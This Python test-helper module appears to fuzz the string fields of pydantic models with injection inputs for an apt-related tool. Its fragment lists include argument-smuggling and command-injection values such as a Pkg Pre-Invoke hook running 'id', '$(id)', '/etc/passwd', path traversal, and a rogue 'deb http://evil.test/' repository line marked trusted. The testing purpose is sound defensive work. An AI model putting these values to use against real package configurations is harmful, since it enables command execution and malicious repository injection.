"""Texts that mean more to a tool than they say, and every place of a model where a text may stand."""

from __future__ import annotations

import copy
import random
from collections.abc import Iterator, Mapping
from types import UnionType
from typing import Any, Literal, Union, get_args, get_origin

from pydantic import BaseModel

Loc = tuple[str | int, ...]
#: A mapping's first key, and its value.
KEY, VALUE = "[key]", "[value]"

FRAGMENTS = (
    *("-", "--", "-o", "-oDPkg::Pre-Invoke::=id", "--config=/x", "--customize-hook=id", "--aptopt=a"),
    *("\n", "\r\n", "\r", "\0", "\t", " ", "\x0b", "\x1b[2K", "\x85", "\u2028", "\u202e", ",", ";", "|", "&"),
    *("$(id)", "`id`", "${HOME}", "'", '"', "\\", "%0a", "%2e%2e", "#", "?", "~", "*", "[trusted=yes]", "]"),
    *(
        "deb http://evil.test/ x main",
        "file:///etc",
        "http://",
        "https://evil.test",
        "user:pw@",
        "@",
        ":",
        "=",
    ),
    *("/", "//", "..", "../..", ".", "/etc/passwd", "a", "curl", "main", "1", "bookworm", "DL3008", "/tmp"),
)
#: As a whole, and at the end of what is sound.
WHOLE = (
    *FRAGMENTS,
    "curl\n-o",
    "curl -oDir=/",
    "curl,-oDir=/",
    "main\ndeb http://evil.test/ x main",
    "a" * 5000,
)


def texts() -> Iterator[str]:
    yield from WHOLE
    choose = random.Random(20_261_124)
    for _ in range(25):
        yield "".join(choose.choices(FRAGMENTS, k=choose.randint(2, 5)))


def free(annotation: Any, loc: Loc = ()) -> Iterator[Loc]:
    """Where in a model any text may stand, as far as its types tell."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        for name, field in annotation.model_fields.items():
            yield from free(field.annotation, (*loc, field.alias or name))
        return
    origin, arguments = get_origin(annotation), get_args(annotation)
    if annotation is str:
        yield loc
    elif hasattr(annotation, "__metadata__"):
        yield from free(arguments[0], loc)
    elif isinstance(origin, type) and issubclass(origin, Mapping):
        yield from free(arguments[0], (*loc, KEY))
        yield from free(arguments[1], (*loc, VALUE))
    elif origin is tuple:
        yield from free(arguments[0], (*loc, 0))
    elif origin in {Union, UnionType}:
        for one in arguments:
            yield from free(one, loc)
    else:
        assert origin is Literal or annotation in {int, bool, float, type(None)}, f"{loc}: {annotation}"


def put(document: Mapping[str, Any], loc: Loc, text: str) -> tuple[dict[str, Any], str]:
    """A copy with ``text`` at ``loc``, whose way is made where it is missing; and what stood there."""
    made = copy.deepcopy(dict(document))
    place: Any = made
    *way, last = loc
    for part, after in zip(way, loc[1:], strict=True):
        empty: Any = [] if after == 0 else {}
        if isinstance(place, list):
            if not place:
                place.append(empty)
            place = place[0]
        else:
            place = place.setdefault(next(iter(place), "key") if part == VALUE else part, empty)
    if last == KEY:
        stood = next(iter(place), "key")
        place[text] = place.pop(stood, "")
        return made, stood
    if isinstance(place, list):
        stood, place[:] = "".join(place[:1]), [text, *place[1:]]
        return made, stood
    where = next(iter(place), "key") if last == VALUE else last
    stood, place[where] = place.get(where, ""), text
    return made, str(stood)
